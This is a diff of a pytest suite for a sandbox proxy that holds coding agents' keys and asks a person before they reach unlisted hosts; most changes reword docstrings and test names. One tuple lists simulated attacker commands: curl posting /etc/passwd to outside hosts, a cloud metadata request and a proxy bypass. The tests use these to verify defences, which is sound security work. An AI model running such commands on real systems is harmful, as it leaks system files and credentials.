@@ -1,7 +1,7 @@
 """The real command-line agents hold whole conversations from their sandboxes, through the proxy, with a fake model.
 
-Each change tries the agents whose stacks other tests use too, and one more from npm and from PyPI each. `make agents`
-tries all.
+Every change tests the agents whose stacks other tests use too, and one more from npm and from PyPI each.
+`make agents` tests all.
 """
 
 from __future__ import annotations
@@ -43,21 +43,21 @@ if TYPE_CHECKING:
 
 TEMPLATES = data_root() / "templates"
 KEY_MARK = "canary3f8ae2d771"
-UNLISTED = "example.com"  # a host that is there, and that no policy names
+UNLISTED = "example.com"  # a host that exists, and that no policy names
 BUTTON = "document.querySelector('#dialog-buttons button')"
 DENIED = f"[...document.querySelectorAll('#rows .deny .request')].find((row) => row.textContent.includes('{UNLISTED}'))"
-# Archives are on sites that the tests do not reach.
+# Agents that come as archives are left out: the tests cannot reach the sites.
 ALL = [name for name in known_agents(TEMPLATES) if not isinstance(load_manifest(TEMPLATES, name).install, Archive)]
 EVERY = bool(os.environ.get("EVERY_AGENT"))
 TRIED = ALL if EVERY else ("claude", "copilot", "codex", "hermes")
 TALKED = [name for name in TALKS if name in TRIED]
-# Agents with their providers: all, or the first.
+# Agents with their providers: all, or only the first.
 TALKING = [(name, talk) for name in TALKED for talk in (TALKS[name] if EVERY else TALKS[name][:1])]
 SERVICES = sorted({talk.service for _, talk in TALKING})
 
 
 @pytest.mark.parametrize("name", TRIED)
-def test_an_agent_says_its_version_as_dev_without_a_network(name: str) -> None:
+def test_the_version_command_works_without_a_network_and_the_image_runs_as_dev(name: str) -> None:
     manifest = load_manifest(TEMPLATES, name)
     agent_sandbox("build", name)
     image = f"agent-sandbox/{name}:{agent_sandbox('--version').stdout.split()[-1]}"
@@ -74,7 +74,7 @@ SERVERS = (
 
 
 @pytest.mark.parametrize("name", [name for name in TRIED if load_manifest(TEMPLATES, name).mcp])
-def test_an_agent_lists_the_mcp_servers_that_were_written_for_it(name: str) -> None:
+def test_an_agent_lists_the_mcp_servers_that_are_configured_for_it(name: str) -> None:
     manifest = load_manifest(TEMPLATES, name)
     agent_sandbox("build", name)
     image = f"agent-sandbox/{name}:{agent_sandbox('--version').stdout.split()[-1]}"
@@ -89,11 +89,11 @@ def test_an_agent_lists_the_mcp_servers_that_were_written_for_it(name: str) -> N
 
 @pytest.fixture(scope="module")
 def keys(together: Project) -> dict[str, str]:
-    """Give the stack a key for each service that takes one, without which its host answers 401; return them by host."""
+    """Set a key for each service that takes one, whose host answers 401 without it; return the keys by host."""
     found = {}
     for service in SERVICES:
         host = auth_of(service).host
-        # Of two services for one host, the first gets the key and the other one shares it.
+        # Two services for one host share the key of the first.
         if host not in found:
             found[host] = KEY_MARK + secrets.token_urlsafe(32)
             together.sandbox("secret", "setup", service, piped=found[host])
@@ -103,7 +103,7 @@ def keys(together: Project) -> dict[str, str]:
 
 @pytest.fixture(scope="module")
 def together(projects: Projects) -> Iterator[Project]:
-    """One running stack of all these agents, whose policy allows their providers and one host more."""
+    """One running stack for all tested agents, whose policy allows their providers and one more host."""
     project = projects.make("app", *TALKED)
     agents = {service for name in TALKED for service in load_manifest(TEMPLATES, name).services}
     providers = "".join(f"  - {one}\n" for one in SERVICES if one not in agents)
@@ -116,33 +116,33 @@ def together(projects: Projects) -> Iterator[Project]:
 
 
 def auth_of(service: str) -> Auth:
-    """Return how a service takes its key."""
+    """Return the declared authentication of a service."""
     declared = shipped_services()[service].spec.declared
     return next(auth for auth in declared.values() if isinstance(auth, Auth) and auth.env)
 
 
 def ask(project: Project, name: str, talk: Talk, prompt: str) -> str:
-    """Let the agent answer one prompt, unattended."""
+    """Let the agent answer one prompt, unattended; return the answer."""
     return project.sandbox("exec", "--", *talk.command(load_manifest(TEMPLATES, name), prompt)).stdout
 
 
 @pytest.mark.parametrize(("name", "talk"), TALKING, ids=[f"{name}-{talk.service}" for name, talk in TALKING])
-def test_an_agent_completes_a_conversation_with_a_key_that_it_never_has(
+def test_an_agent_completes_a_conversation_with_an_injected_key(
     together: Project, keys: dict[str, str], name: str, talk: Talk
 ) -> None:
     assert keys
     host = auth_of(talk.service).host
     before = len(together.internet.requests(host))
     assert "Hello from the stand-in." in ask(together, name, talk, "say hi")
-    # Only a request with the key was answered, so a host that was asked has seen it.
+    # The host answers only requests with the key, so it got the key.
     assert len(together.internet.requests(host)) > before
 
 
 @pytest.mark.parametrize("name", TALKED)
-def test_a_command_of_an_agents_reaches_what_the_policy_allows_alone_and_learns_why(
+def test_an_agents_command_reaches_only_allowed_hosts_and_gets_the_denial(
     together: Project, keys: dict[str, str], name: str
 ) -> None:
-    """While it runs, the memory of all processes has the placeholder of the agent's key, and not the key."""
+    """While the command runs, the memory of all processes contains the placeholder and not the key."""
     project, talk = together, TALKS[name][0]
     auth = auth_of(talk.service)
     placeholder = project.sandbox("exec", "--", "sh", "-c", f'printf %s "${auth.env}"').stdout
@@ -161,7 +161,7 @@ def test_a_command_of_an_agents_reaches_what_the_policy_allows_alone_and_learns_
 
 @pytest.fixture
 def own_policy(together: Project) -> Iterator[str]:
-    """The policy, which is put back after a person has changed it."""
+    """The policy, which is restored after the test."""
     policy = together.policy.read_text()
     yield policy
     together.write_policy(policy)
@@ -169,7 +169,7 @@ def own_policy(together: Project) -> Iterator[str]:
 
 
 class Calls:
-    """An agent that is told to fetch a page of a host that no rule allows, each time in a conversation of its own."""
+    """Conversations in which an agent fetches a page of a host that no rule allows."""
 
     def __init__(self, project: Project, name: str, pool: ThreadPoolExecutor) -> None:
         self._project, self._name, self._pool = project, name, pool
@@ -177,35 +177,35 @@ class Calls:
         self.url = f"https://{UNLISTED}{self._path}"
 
     def again(self) -> Future[str]:
-        """Start a conversation, which ends with what the command printed."""
+        """Start a conversation; its result contains the output of the command."""
         prompt = f"run>>curl -sS {self.url}<<"
         return self._pool.submit(ask, self._project, self._name, TALKS[self._name][0], prompt)
 
     @property
     def arrived(self) -> int:
-        """How many of its requests reached the host."""
+        """The number of its requests that reached the host."""
         return [one["path"] for one in self._project.internet.requests(UNLISTED)].count(self._path)
 
 
 @pytest.fixture
 def pool() -> Iterator[ThreadPoolExecutor]:
-    """Where an agent waits while a person answers."""
+    """A thread in which an agent waits while a person answers."""
     with ThreadPoolExecutor(1) as pool:
         yield pool
 
 
 def added(project: Project, policy: str) -> list[str]:
-    """Return the lines that were added to the policy, which has lost none."""
+    """Return the lines that were added to the policy, and check that none was removed."""
     changes = [line for line in ndiff(policy.splitlines(), project.policy.read_text().splitlines()) if line[0] != " "]
     assert {line[0] for line in changes} == {"+"}
     return [line[2:] for line in changes]
 
 
 @pytest.mark.usefixtures("keys")
-def test_a_call_of_claudes_waits_for_a_person_at_a_terminal(
+def test_a_request_of_claude_waits_for_an_answer_at_the_terminal(
     together: Project, own_policy: str, pool: ThreadPoolExecutor
 ) -> None:
-    """Allowed once, denied when nobody watches, then allowed for the project by another key."""
+    """Allowed once with `a`, denied while no `watch` runs, then allowed for the project with `p`."""
     calls = Calls(together, "claude", pool)
     with watching(together) as screen:
         answer = calls.again()
@@ -229,10 +229,10 @@ def test_a_call_of_claudes_waits_for_a_person_at_a_terminal(
 
 @pytest.mark.usefixtures("keys")
 @pytest.mark.parametrize("program", PROGRAMS)
-def test_a_call_of_codexs_waits_for_a_person_at_the_page(
+def test_a_request_of_codex_waits_for_an_answer_on_the_page(
     together: Project, own_policy: str, pool: ThreadPoolExecutor, program: str, tmp_path: Path
 ) -> None:
-    """Allowed once, denied, then made a rule: the denied request, after a look at the change."""
+    """Allowed once, then denied, then allowed by a rule that the person adds after seeing the change."""
     calls = Calls(together, "codex", pool)
     with on_page(together, program, tmp_path) as browser:
         answer = calls.again()
@@ -260,21 +260,19 @@ def test_a_call_of_codexs_waits_for_a_person_at_the_page(
     assert added(together, own_policy) == ["", "allow:", f"  - GET {calls.url}"]
 
 
-# What an agent reads about a job, whose number and whose log are in the paths.
+# An agent reads a job and its log. The paths contain the job's number.
 READ = "curl -fsS https://example.com/ci/jobs/{0} && curl -fsS https://example.com/ci/logs/{0:032x}/raw"
-# What an attacker in the sandbox tries meanwhile, and the status while requests that no rule denies are allowed.
+# What an attacker in the sandbox tries meanwhile, and the status of each request during `learn --allow-for`.
 MEANWHILE = (
     (("--data-binary", "@/etc/passwd", f"https://{UNLISTED}/sum"), 200),
-    (("--data-binary", "@/etc/passwd", "https://api.anthropic.com/v1/files"), 403),  # a host that gets a key
+    (("--data-binary", "@/etc/passwd", "https://api.anthropic.com/v1/files"), 403),  # this host gets a key
     (("http://169.254.169.254/latest/meta-data/",), 403),
     (("--noproxy", "*", f"http://{STANDIN_ADDRESS}/learned"), 0),
 )
 
 
 @pytest.mark.usefixtures("keys")
-def test_what_claude_needs_is_learned_while_it_works_and_attacks_meanwhile_are_not(
-    together: Project, own_policy: str
-) -> None:
+def test_learning_adds_the_requests_of_claude_and_not_those_of_an_attacker(together: Project, own_policy: str) -> None:
     def reads(*jobs: int) -> str:
         commands = " && ".join(READ.format(job) for job in jobs)
         return ask(together, "claude", TALKS["claude"][0], f"run>>{commands} && echo has read $((40 + {len(jobs)}))<<")
@@ -293,11 +291,11 @@ def test_what_claude_needs_is_learned_while_it_works_and_attacks_meanwhile_are_n
         "  - GET https://example.com/ci/jobs/*",
         "  - GET https://example.com/ci/logs/*/raw",
     ]
-    assert "has read 41" in reads(1799)  # a job that was not there before
+    assert "has read 41" in reads(1799)  # another job than those that were learned
     assert {*statuses()} == {403, 0}
 
 
-# In all files, and in what each process was started with.
+# Search all files, and the environment and arguments of each process.
 SEARCH = """
 cd /proc
 for p in [0-9]*; do cat $p/environ $p/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -q {patterns} && echo $p; done
@@ -307,7 +305,7 @@ true
 
 
 def where_it_is(project: Project, *marks: str) -> list[tuple[str, str]]:
-    """Search the containers as root, what the engine says of them and their images, and our files on the host."""
+    """Search the containers as root, Docker's output about them and their images, and our files on the host machine."""
     containers = project.containers()
     images = {one["Image"] for one in containers.values()}
     said = {
@@ -320,7 +318,7 @@ def where_it_is(project: Project, *marks: str) -> list[tuple[str, str]]:
     }
     folders = (project.path, Path(os.environ["XDG_STATE_HOME"]))
     files = [path for folder in folders for path in folder.rglob("*") if path.is_file()]
-    # A pattern does not find itself.
+    # The brackets keep a pattern from finding itself.
     search = SEARCH.format(patterns=" ".join(f"-e {mark[:-1]}[{mark[-1]}]" for mark in marks))
     inside = ("exec", "-T", "--privileged", "--user", "root")
     return [
@@ -334,8 +332,8 @@ def where_it_is(project: Project, *marks: str) -> list[tuple[str, str]]:
     ]
 
 
-# Which of the words on stdin are in the memory of the other processes: in each page that is in memory or swapped out,
-# whatever its protection. A core has no more than that.
+# Print which words on stdin are in the memory of the other processes: in each page that is in memory or swapped out,
+# whatever its protection. A core dump contains no more than that.
 MEMORY = """
 import os, sys
 marks, found = sys.stdin.read().split(), set()
@@ -360,14 +358,14 @@ print(*sorted(found))
 
 
 def in_memory(project: Project, *words: str) -> list[str]:
-    """Return those of the words that are in the memory of a process of the agent's container, sorted."""
+    """Return the words that are in the memory of any process of the agent container, sorted."""
     command = ("exec", "-T", "--privileged", "--user", "root", "agent", "python3", "-c", MEMORY)
     return run("docker", "compose", *command, cwd=project.path, piped=" ".join(words)).stdout.split()
 
 
 @contextmanager
 def waiting(project: Project, answer: Callable[[str], str], command: str) -> Iterator[list[str]]:
-    """Let the agent run a command and then wait, during the block; after it, the list has what the agent said."""
+    """Let the agent run a command and wait until the block ends; then the yielded list contains its answer."""
     said: list[str] = []
     begun, ended = (f"until [ -e /tmp/{mark} ]; do sleep 0.1; done" for mark in ("begun", "ended"))
     prompt = f"run>>{command}; touch /tmp/begun; {ended}<<"
@@ -389,14 +387,14 @@ def test_after_these_conversations_only_the_proxy_has_the_keys(together: Project
     assert [where for _, where in found if not where.startswith("/state/secrets/")] == []
 
 
-def test_a_session_survives_other_agents_another_image_and_new_containers(
+def test_run_resume_continues_a_session_in_new_containers_of_another_image(
     together: Project, keys: dict[str, str]
 ) -> None:
     assert keys
     first = together.sandbox("run", "claude", "--", "-p", piped="run>>echo kept-$((40 + 2))<<")
     assert "RESULT: kept-42" in first.stdout
     together.sandbox("down")
-    together.sandbox("init", "claude")  # alone, so from another image
+    together.sandbox("init", "claude")  # only this agent, so another image
     resumed = together.sandbox("run", "--resume", "--", "-p", piped="and what did it print?")
     assert "RESULT: kept-42" in resumed.stdout
     wrong = together.sandbox("run", "codex", check=False)
@@ -404,16 +402,16 @@ def test_a_session_survives_other_agents_another_image_and_new_containers(
 
 
 def signed_in(name: str) -> Talk:
-    """Return how an agent is made to talk without a key."""
+    """Return the talk of an agent that uses a login instead of a key."""
     return Talk(words=SIGN_INS[name].words, variables=SIGN_INS[name].variables, service=name)
 
 
 @pytest.fixture(scope="module")
 def keyless(together: Project, keys: dict[str, str]) -> Project:
-    """The same stack, whose policy injects no key any more."""
+    """The same stack, with a policy that injects no key."""
     assert keys
     together.internet.require_keys({})
-    together.sandbox("init", *TALKED)  # the test before leaves one of them
+    together.sandbox("init", *TALKED)  # the test before leaves only one of them
     together.sandbox("up")
     together.write_policy(f"version: 1\nservices: [{', '.join(SIGN_INS)}]\n")
     together.sandbox("proxy", "reload")
@@ -421,10 +419,10 @@ def keyless(together: Project, keys: dict[str, str]) -> Project:
 
 
 @pytest.mark.parametrize("name", [name for name in TALKED if name in SIGN_INS])
-def test_an_agent_works_with_the_login_of_the_host_machine_and_never_has_it(
+def test_an_agent_works_with_the_host_machines_login_and_never_has_its_token(
     keyless: Project, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Fresh, rotated while a command of the agent runs, revoked, expired, signed in again: the API wants the last."""
+    """The login is new, rotated while a command of the agent runs, revoked, expired, then signed in again."""
     project, sign_in, manifest = keyless, SIGN_INS[name], load_manifest(TEMPLATES, name)
     monkeypatch.setenv(sign_in.folder, str(tmp_path))
 
@@ -452,7 +450,7 @@ def test_an_agent_works_with_the_login_of_the_host_machine_and_never_has_it(
     found = where_it_is(project, MARK)
     assert ("proxy", f"/state/run/secrets/{name}.login") in found
     assert [(service, where) for service, where in found if not where.startswith("/state/run/secrets/")] == []
-    # Revoked: the client asks for a new token, gets its placeholder again, and shows the server's answer.
+    # Revoked: the client requests a new token, gets its placeholder again, and shows the server's answer.
     project.internet.require_keys({sign_in.api: "another token"})
     assert "401" in answer("say hi", check=False)
     assert f"secret  {name}.login was refused by {sign_in.api} at " in project.sandbox("status").stdout
@@ -460,7 +458,7 @@ def test_an_agent_works_with_the_login_of_the_host_machine_and_never_has_it(
     sign_in.write(tmp_path, "third", seconds=-60)
     assert project.sandbox("secret", "sync", check=False).returncode == 1
     assert "agent-sandbox secret sync" in answer("say hi", check=False)
-    # Signed in again. By the clock of the client inside, its placeholder has expired: it refreshes, the proxy answers.
+    # Signed in again. For the client, its placeholder has expired: it requests a new one, and the proxy answers.
     rotate("fourth")
     project.sandbox("secret", "sync")
     project.exec("sh", "-c", 'printf %s "$1" >"$2"', "sh", json.dumps(expired_inside(inside)), path)
@@ -481,7 +479,7 @@ cd app; {COMMIT}; git push -q; cd ../lib; cat README; {COMMIT}; git push 2>&1 ||
 
 
 def promised() -> list[list[str]]:
-    """Return the words of the commands after `agent-sandbox` with which the page on Claude Code signs it in."""
+    """Return the arguments of the `agent-sandbox` commands with which docs/agents/claude.md signs in."""
     page = (ROOT / "docs" / "agents" / "claude.md").read_text()
     block = page.partition("## Sign in, and push")[2].partition("```sh\n")[2].partition("```")[0]
     commands = [shlex.split(line, comments=True) for line in block.splitlines()]
@@ -490,11 +488,11 @@ def promised() -> list[list[str]]:
 
 @pytest.fixture(scope="module")
 def new(projects: Projects) -> Project:
-    """A project of a new user's, after `init`."""
+    """A new user's project, after `init`."""
     return projects.make("new", "claude")
 
 
-def test_four_commands_sign_claude_in_and_let_it_push_and_no_search_finds_a_token(
+def test_four_commands_sign_claude_in_to_talk_and_push_and_only_the_proxy_has_tokens(
     new: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     project, sign_in = new, SIGN_INS["claude"]
@@ -503,7 +501,7 @@ def test_four_commands_sign_claude_in_and_let_it_push_and_no_search_finds_a_toke
     refresh = json.loads((tmp_path / sign_in.file).read_text())["claudeAiOauth"]["refreshToken"]
     project.internet.require_keys({sign_in.api: access, "github.com": BASIC})
     init, login, setup, start = promised()
-    assert init == ["init", "claude"]  # what made the project
+    assert init == ["init", "claude"]  # the fixture ran it
     project.sandbox(*login)
     project.sandbox(*setup, piped=GIT_TOKEN)
 
